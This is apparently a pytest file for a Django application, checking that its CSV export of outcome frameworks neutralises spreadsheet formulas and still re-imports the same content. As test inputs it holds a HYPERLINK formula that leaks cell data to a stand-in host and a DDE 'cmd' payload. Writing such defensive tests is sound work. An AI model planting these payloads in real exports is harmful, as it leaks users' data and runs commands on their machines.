"""A framework's CSV export never hands a spreadsheet a formula, and still re-imports to the same content."""

import csv
import io

import pytest
from django.urls import reverse

from commonweal.outcomes import exchange, selectors
from commonweal.outcomes.models import Indicator

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A2,"Open")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_downloaded_csv_writes_a_formula_as_text(client, published):
    Indicator.objects.filter(code="I1").update(
        name=ATTACK, definition="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    response = client.get(
        reverse("outcomes:export-csv", kwargs={"slug": published.framework.slug, "number": 1})
    )
    assert response.status_code == 200
    row = next(row for row in _rows(response.content.decode()) if row["indicator_code"] == "I1")
    assert row["indicator_name"] == "'" + ATTACK
    assert row["definition"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["baseline_value"] == "42"  # numbers stay numbers


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("-5% smoking", "'-5% smoking"),
        ("+1", "+1"),  # a number: a spreadsheet shows it, runs nothing
        ("'=typed with a quote", "''=typed with a quote"),
        (ATTACK, "'" + ATTACK),
    ],
)
def test_a_name_a_spreadsheet_would_run_survives_a_round_trip(published, name, cell):
    content = selectors.version_as_dict(published)
    content["areas"][0]["name"] = name
    content["areas"][0]["outcomes"][0]["indicators"][0]["name"] = name
    text = exchange.version_csv(content)
    first = _rows(text)[0]
    assert (first["area_name"], first["indicator_name"]) == (cell, cell)
    assert exchange.read_csv(text.encode()) == content
